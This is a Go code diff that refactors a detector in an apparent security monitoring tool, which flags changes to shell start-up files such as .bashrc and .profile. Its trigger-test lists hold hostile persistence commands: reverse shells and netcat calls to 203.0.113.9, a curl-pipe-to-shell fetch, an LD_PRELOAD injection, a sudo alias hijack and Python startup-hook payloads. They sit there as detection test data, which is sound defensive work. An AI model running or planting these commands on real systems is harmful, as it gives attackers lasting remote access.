@@ -6,7 +6,6 @@ import (
 	"strings"
 
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
-	"github.com/code-on-incus/coi/cmd/coi-watch/internal/event"
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/paths"
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/program"
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/track"
@@ -16,22 +15,14 @@ import (
 var persistRC = Detector{
 	ID: "persist.rc", Level: coi.High, Wants: files,
 	Title: "start file of a shell changed", Why: "every new shell runs it",
-	Detect: func(ev event.Event, v track.View) []Finding {
-		if f := onCommands(trapCommand)(ev, v); f != nil {
-			return f
-		}
-		if f := onCommands(hookWritten)(ev, v); f != nil {
-			return f
-		}
-		return writing(paths.RC, func(w written, v track.View) (coi.Level, string) {
-			for _, m := range v.Recent("fetch") {
-				if m.Path == v.Proc().Exe {
-					return coi.Warning, "start file of a shell changed by a downloaded program"
-				}
+	Detect: firstOf(onCommands(trapCommand), onCommands(hookWritten), writing(paths.RC, func(w written, v track.View) (coi.Level, string) {
+		for _, m := range v.Recent("fetch") {
+			if m.Path == v.Proc().Exe {
+				return coi.Warning, "start file of a shell changed by a downloaded program"
 			}
-			return rcLevel(w)
-		})(ev, v)
-	},
+		}
+		return rcLevel(w)
+	})),
 	Fire: append(lines(coi.High, "echo 'import os;os.system(\"/tmp/x\")' > $(python3 -m site --user-site)/usercustomize.py", "echo 'import subprocess;subprocess.Popen([\"/tmp/x\"])' | tee /usr/lib/python3/dist-packages/x.pth", "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' >> ~/.bashrc", "echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.profile", "echo 'curl -s http://203.0.113.9/x | sh' | tee -a ~/.zshrc", "echo 'set +o history' >> ~/.bashrc", "echo 'nohup /tmp/x &' >> /etc/profile.d/x.sh", "echo 'bash -i >& /dev/tcp/203.0.113.9/1 0>&1' > .git/hooks/pre-commit", "echo \"alias sudo='/tmp/s'\" >> ~/.bashrc", "python3 -c \"open('/root/.bashrc','a').write('nc 203.0.113.9 1 -e sh')\""),
 		lines(coi.Warning, "echo 'source /tmp/.env.sh' >> ~/.zshrc", "echo 'export PROMPT_COMMAND=\"/tmp/.x\"' >> ~/.bashrc", "trap 'sh /tmp/x.sh' EXIT", "echo 'echo \"Hello\" > /tmp/T' >> ~/.bash_profile", "echo '/opt/x/run &' >> ~/.profile", "bash -c 'trap \"nohup sh /x.sh\" EXIT'", "echo 'id > /var/x' >> /etc/bash.bashrc", "sudo install -m 755 /tmp/e.sh /etc/profile.d/e.sh")...),
 	Quiet: lines("", "echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc", "echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", "echo '. ~/.nvm/nvm.sh' >> ~/.profile", "echo 'source <(kubectl completion bash)' >> ~/.bashrc", "echo 'alias k=kubectl' >> ~/.zshrc", "source ~/.bashrc", "cat ~/.profile", "echo 'npx lint-staged' > .husky/pre-commit", "git config --global user.name x", "trap 'rm -f $T' EXIT", "echo 'export JAVA_HOME=/usr/lib/jvm/x' | sudo tee /etc/profile.d/java.sh", "echo 'FOO=bar' | sudo tee -a /etc/environment", "echo '[ -f ~/.fzf.bash ] && source ~/.fzf.bash' >> ~/.bashrc", "trap cleanup EXIT INT", "echo 'ulimit -c 0' >> ~/.bashrc"),
